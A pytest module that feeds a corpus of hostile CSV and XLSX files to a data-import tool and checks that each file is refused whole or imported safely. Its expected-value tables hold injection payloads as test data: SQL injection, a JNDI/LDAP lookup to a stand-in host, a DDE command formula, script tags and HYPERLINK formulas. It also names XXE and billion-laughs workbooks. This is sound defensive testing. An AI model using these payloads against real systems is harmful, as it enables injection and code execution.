"""The hostile-input corpus through the real command line: every file is refused whole or
imported whole, never half, never with a traceback, within 500 MB and 30 s.

``tests/fixtures/hostile/MANIFEST.csv`` names each file, its import kind, where it comes
from (``committed`` in that folder, or ``generated`` by scripts/make_hostile_corpus.py
into a temporary folder, because it is large), the expected outcome and, for a refusal,
a phrase the message on stderr must hold or, for an import, the exact number of rows
written. Each file runs as ``python -m data_access import KIND FILE`` in its own process
against its own copy of one SQLite database (reference data plus the base chain
F-1 → C-1 → K-1 → U-1 from tests/fixtures/imports/base_*.csv). A refusal must leave
every table's rows exactly as they were (a checksum of a canonical dump, since SQLite's
file bytes change without any row changing). Wall time and peak memory are the import
process's own: ``os.wait4`` in a small launcher process (see ``LAUNCHER``).

The runs happen once, two at a time, in a session fixture; each test then checks one
file's result, so a failure names the file.
"""

from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from data_access.plain_text import has_controls, strip_controls
from tests.conftest import PROJECT_ROOT

HOSTILE = PROJECT_ROOT / "tests" / "fixtures" / "hostile"
IMPORTS = PROJECT_ROOT / "tests" / "fixtures" / "imports"
MANIFEST = HOSTILE / "MANIFEST.csv"

MAX_SECONDS = 30.0
MAX_RSS_BYTES = 500 * 1024 * 1024
# A run that hangs is stopped here (well past the limit, so the report shows the overrun).
KILL_AFTER_SECONDS = 90.0
WORKERS = 2

TABLE_OF_KIND = {
    "crime-counts": "crime_counts",
    "incidents": "incidents",
    "forums": "forums",
    "concerns": "concerns",
    "commitments": "commitments",
    "commitment-updates": "commitment_updates",
    "chief-reports": "chief_reports",
}


def _load_generator():
    """scripts/make_hostile_corpus.py as a module (scripts/ is not a package)."""
    path = PROJECT_ROOT / "scripts" / "make_hostile_corpus.py"
    spec = importlib.util.spec_from_file_location("make_hostile_corpus", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


GEN = _load_generator()


@dataclass(frozen=True)
class Entry:
    """One manifest row."""

    file: str
    kind: str
    source: str  # "committed" or "generated"
    outcome: str  # "refused" or "imported"
    expect: str  # refused: phrase on stderr; imported: exact rows written
    case: str


def read_manifest() -> list[Entry]:
    """Every row of MANIFEST.csv."""
    with MANIFEST.open(newline="", encoding="utf-8") as fh:
        return [Entry(**row) for row in csv.DictReader(fh)]


ENTRIES = read_manifest()

# Imported files whose stored values must be exactly these (rows in insertion order, one
# column of the kind's table): text stays text, formulas are not run, controls are
# stripped, every row of a workbook is read.
STORED_VALUES: dict[str, tuple[str, list[str]]] = {
    "con_formulas.csv": ("summary", GEN.FORMULA_TEXTS),
    "con_formulas.xlsx": ("summary", GEN.FORMULA_TEXTS),
    "con_markup.csv": ("summary", GEN.MARKUP_TEXTS),
    "con_quoted_multiline_ok.csv": ("summary", ["Dens near the school,\nand near the market",
                                                'He said "stop" twice']),
    "frm_markup_venue.csv": ("venue", ["<img src=http://x.example/v.png>",
                                       "[Hall](http://x.example/phish)"]),
    "com_markup_title.csv": ("title", ["<script>alert(1)</script> **patrols**",
                                       '=HYPERLINK("http://x.example","ok")']),
    "upd_vertical_tab.csv": ("note", ["Patrols started\nat night"]),
    "upd_control_chars.csv": ("note", [
        *(f"Patrols continue as planned in week {i}" for i in range(1, 6)),
        strip_controls("Line one\x0bline two\x0cthree\x07 bell\x1b[2J end")]),
    "con_mixed_utf8_in_cp1252.csv": ("summary", ["Wizi – usiku", "Wizi – mchana"]),
    "con_ansi_in_summary.csv": ("summary", [strip_controls(
        "\x1b[31mRED ALERT\x1b[0m at the market")]),
    "con_sql_and_unicode.csv": ("summary", [
        "'); DROP TABLE concerns;--", "Usalama 🚨 wa jamii — \u202etxt.exe zero\u200bwidth",
        "Robbery %s %n {0} ${jndi:ldap://x.example/a}"]),
    "cc_semicolon_cp1252.csv": ("publication", ["NPS – ripoti"]),
    "chf_markup_notes.csv": ("notes", [
        "<img src=http://x.example/c.png> =cmd|' /C calc'!A0 **calm**"]),
    "upd_formula_evidence.csv": ("evidence", ['=HYPERLINK("http://x.example/e","photo")']),
    "cc_stale_dimension.xlsx": ("count", list(range(3, 13))),
    "inc_datetime_cells.xlsx": ("occurred_on", ["2024-03-01", "2024-03-02"]),
}

# What an imported file's summary on stdout must also say (a change made on the way in is
# never silent).
STDOUT_SAYS: dict[str, str] = {
    "inc_datetime_cells.xlsx": "row 2, occurred_on: time of day 14:30 dropped",
    "cc_misspelt_county_close.csv": "'Kisumuu' read as Kisumu (closest match)",
    "con_ansi_in_summary.csv": "row 2, summary: removed 2 control characters",
}


# --- the database -----------------------------------------------------------------------


def db_checksum(path: Path) -> str:
    """SHA-256 of every table's rows, each table ordered by its primary key: equal
    checksums = no row added, removed or changed (whatever happened to the file's bytes)."""
    digest = hashlib.sha256()
    conn = sqlite3.connect(path)
    try:
        tables = [r[0] for r in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' "
            "ORDER BY name")]
        for table in tables:
            info = conn.execute(f'PRAGMA table_info("{table}")').fetchall()
            pk = [r[1] for r in sorted(info, key=lambda r: r[5]) if r[5]] or \
                [r[1] for r in info]
            order = ", ".join(f'"{c}"' for c in pk)
            digest.update(f"\x00table {table}\x00".encode())
            for row in conn.execute(f'SELECT * FROM "{table}" ORDER BY {order}'):
                digest.update(repr(row).encode("utf-8", "surrogatepass"))
    finally:
        conn.close()
    return digest.hexdigest()


def table_rows(path: Path, table: str) -> dict[int, dict[str, object]]:
    """Rows of ``table`` by id."""
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    try:
        return {r["id"]: dict(r) for r in conn.execute(f'SELECT * FROM "{table}" ORDER BY id')}
    finally:
        conn.close()


@pytest.fixture(scope="session")
def base_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A SQLite file with the schema, reference data and the base chain F-1 → C-1 → K-1 →
    U-1, checkpointed into one file so that copies of it are complete."""
    from data_access.engine import get_engine, init_db
    from data_access.imports import import_file

    path = tmp_path_factory.mktemp("hostile_base") / "base.db"
    url = f"sqlite:///{path}"
    engine = get_engine(url)
    init_db(engine)
    for kind, name in (("forums", "base_forums.csv"), ("concerns", "base_concerns.csv"),
                       ("commitments", "base_commitments.csv"),
                       ("commitment-updates", "base_updates.csv")):
        report = import_file(engine, kind=kind, data=(IMPORTS / name).read_bytes(),
                             filename=name)
        assert report.written, (name, [p.text() for p in report.problems])
    engine.dispose()
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return path


def copy_db(base: Path, target: Path) -> None:
    """A complete copy of ``base`` (SQLite's backup API, so no WAL content is lost)."""
    src, dst = sqlite3.connect(base), sqlite3.connect(target)
    try:
        src.backup(dst)
    finally:
        src.close()
        dst.close()


# --- running one file -------------------------------------------------------------------


@dataclass
class Run:
    """What one ``python -m data_access import`` did."""

    entry: Entry
    exit_code: int | None
    stdout: str
    stderr: str
    seconds: float
    cpu_seconds: float
    max_rss_bytes: int
    checksum_before: str
    checksum_after: str
    new_rows: list[dict[str, object]]

    def describe(self) -> str:
        """The run as a failure message shows it."""
        return (f"{self.entry.file} ({self.entry.kind}): exit {self.exit_code}, "
                f"{self.seconds:.1f} s ({self.cpu_seconds:.1f} s CPU), "
                f"{self.max_rss_bytes / 2**20:.0f} MB, "
                f"{len(self.new_rows)} new rows\nstdout: {self.stdout[-1500:]!r}\n"
                f"stderr: {self.stderr[-1500:]!r}")


# Runs the import as its own child and reports that child's rusage. Why a launcher: on
# Linux a process's peak memory (ru_maxrss) starts from the memory of the process that
# spawned it (fork copies it; vfork and exec record it), so an import spawned straight from
# pytest (hundreds of MB with pandas and data loaded) would be charged for pytest. The
# launcher is a bare Python of a few MB; the import it forks is charged for that only.
LAUNCHER = r"""
import json, os, select, signal, sys, time
out, err, report, limit = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
argv = sys.argv[5:]
fd_out = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
fd_err = os.open(err, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
started = time.monotonic()
pid = os.fork()
if pid == 0:
    try:
        os.dup2(fd_out, 1)
        os.dup2(fd_err, 2)
        os.execv(argv[0], argv)
    finally:
        os._exit(127)
killed = False
while True:
    done, status, usage = os.wait4(pid, os.WNOHANG)
    if done:
        break
    if time.monotonic() - started > limit:
        os.kill(pid, signal.SIGKILL)
        killed = True
        _, status, usage = os.wait4(pid, 0)
        break
    # Not time.sleep: under CI's faketime pass it fails (see tests/clock.py); select's
    # relative timeout passes through libfaketime unchanged.
    select.select([], [], [], 0.02)
with open(report, "w") as fh:
    json.dump({"exit": os.waitstatus_to_exitcode(status), "killed": killed,
               "seconds": time.monotonic() - started, "maxrss_kib": usage.ru_maxrss,
               "cpu_seconds": usage.ru_utime + usage.ru_stime}, fh)
"""


def run_import(entry: Entry, path: Path, db: Path) -> Run:
    """Import ``path`` into ``db`` in a child process and measure that child alone (wall
    time and peak memory from its own ``os.wait4``, through LAUNCHER)."""
    table = TABLE_OF_KIND[entry.kind]
    before_rows = table_rows(db, table)
    before = db_checksum(db)
    env = {k: v for k, v in os.environ.items() if k != "JUKWAA_MAX_UPLOAD_MB"}
    env["JUKWAA_DB_URL"] = f"sqlite:///{db}"
    env["PYTHONIOENCODING"] = "utf-8"
    out, err, report = (db.with_suffix(s) for s in (".out", ".err", ".json"))
    subprocess.run([sys.executable, "-I", "-S", "-c", LAUNCHER, str(out), str(err),
                    str(report), str(KILL_AFTER_SECONDS), sys.executable, "-m", "data_access",
                    "import", entry.kind, str(path)],
                   cwd=PROJECT_ROOT, env=env, stdin=subprocess.DEVNULL, check=True,
                   timeout=KILL_AFTER_SECONDS + 30)
    measured = json.loads(report.read_text())
    after_rows = table_rows(db, table)
    return Run(
        entry=entry, exit_code=None if measured["killed"] else measured["exit"],
        stdout=out.read_bytes().decode("utf-8", "replace"),
        stderr=err.read_bytes().decode("utf-8", "replace"),
        seconds=measured["seconds"], cpu_seconds=measured["cpu_seconds"],
        max_rss_bytes=measured["maxrss_kib"] * 1024,  # Linux
        checksum_before=before, checksum_after=db_checksum(db),
        new_rows=[row for key, row in after_rows.items() if key not in before_rows])


@pytest.fixture(scope="session")
def generated_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The large files, built by the generator script (never committed)."""
    folder = tmp_path_factory.mktemp("hostile_large")
    GEN.write_large(folder)
    return folder


@pytest.fixture(scope="session")
def runs(base_db: Path, generated_dir: Path,
         tmp_path_factory: pytest.TempPathFactory) -> dict[str, Run]:
    """Every manifest file imported once, two at a time, each into its own database copy."""
    work = tmp_path_factory.mktemp("hostile_runs")

    def one(entry: Entry) -> Run:
        folder = HOSTILE if entry.source == "committed" else generated_dir
        db = work / f"{entry.file}.db"
        copy_db(base_db, db)
        try:
            return run_import(entry, folder / entry.file, db)
        finally:
            if entry.source == "generated":
                # The big files are read once; free the disk as the run goes.
                (generated_dir / entry.file).unlink(missing_ok=True)

    # The slowest runs first, so the two workers finish together.
    ordered = sorted(ENTRIES, key=lambda e: e.source != "generated")
    with ThreadPoolExecutor(max_workers=WORKERS) as pool:
        return {run.entry.file: run for run in pool.map(one, ordered)}


# --- the checks ---------------------------------------------------------------------------


def test_manifest_names_every_committed_file_and_every_generated_one():
    committed = {e.file for e in ENTRIES if e.source == "committed"}
    generated = {e.file for e in ENTRIES if e.source == "generated"}
    on_disk = {p.name for p in HOSTILE.iterdir()} - {MANIFEST.name}
    assert committed == on_disk
    assert generated == set(GEN.LARGE)
    assert len(ENTRIES) == len({e.file for e in ENTRIES}) >= 40
    assert {e.kind for e in ENTRIES} == set(TABLE_OF_KIND)
    for e in ENTRIES:
        assert e.outcome in ("refused", "imported"), e
        assert e.expect and e.expect != "?", e
        if e.outcome == "imported":
            assert e.expect.isdigit(), e


SHEET1 = "xl/worksheets/sheet1.xml"


def _member(data: bytes, name: str) -> bytes:
    """One member of a zip file."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def _cells(data: bytes) -> list[tuple[str, str, list[tuple]]]:
    """A workbook's sheets as (title, state, rows of values), every cell read whatever
    its stored dimension says."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [(ws.title, ws.sheet_state, list(ws.iter_rows(values_only=True)))
            for ws in wb.worksheets]


def test_committed_files_are_small_and_as_the_generator_builds_them(tmp_path: Path):
    GEN.write_small(tmp_path)
    for e in ENTRIES:
        if e.source == "committed":
            data = (HOSTILE / e.file).read_bytes()
            assert len(data) <= 8_000, e.file
            # Workbooks are compared by their sheets and cells (a newer openpyxl may write
            # other bytes for the same cells); the other files byte for byte.
            rebuilt = (tmp_path / e.file).read_bytes()
            if e.file in ("cc_xxe.xlsx", "cc_billion_laughs.xlsx"):  # no readable cells
                assert _member(data, SHEET1) == _member(rebuilt, SHEET1), e.file
            elif e.file.endswith(".xlsx"):
                assert _cells(data) == _cells(rebuilt), e.file
            else:
                assert data == rebuilt, \
                    f"{e.file}: rebuild it with scripts/make_hostile_corpus.py --small"


@pytest.mark.parametrize("entry", ENTRIES, ids=lambda e: e.file)
def test_hostile_file_is_refused_whole_or_imported_whole(runs: dict[str, Run], entry: Entry):
    run = runs[entry.file]
    where = run.describe()
    assert "Traceback" not in run.stderr + run.stdout, where
    assert "\x1b" not in run.stderr + run.stdout, where
    assert run.seconds < MAX_SECONDS, where
    assert run.max_rss_bytes < MAX_RSS_BYTES, where
    last = run.stdout.strip().splitlines()[-1] if run.stdout.strip() else ""
    if entry.outcome == "refused":
        assert run.exit_code == 2, where
        assert entry.expect in run.stderr, where
        assert last.startswith("0 rows imported"), where
        assert run.checksum_after == run.checksum_before, f"database changed: {where}"
        assert not run.new_rows, where
        return
    expected = int(entry.expect)
    assert run.exit_code == 0, where
    assert last.startswith(f"{expected} rows imported, 0 rejected"), where
    assert len(run.new_rows) == expected, where
    for row in run.new_rows:
        for column, value in row.items():
            assert not (isinstance(value, str) and has_controls(value)), (column, value, where)
    if entry.file in STORED_VALUES:
        column, values = STORED_VALUES[entry.file]
        assert [row[column] for row in run.new_rows] == values, where
    if entry.file in STDOUT_SAYS:
        assert STDOUT_SAYS[entry.file] in run.stdout, where
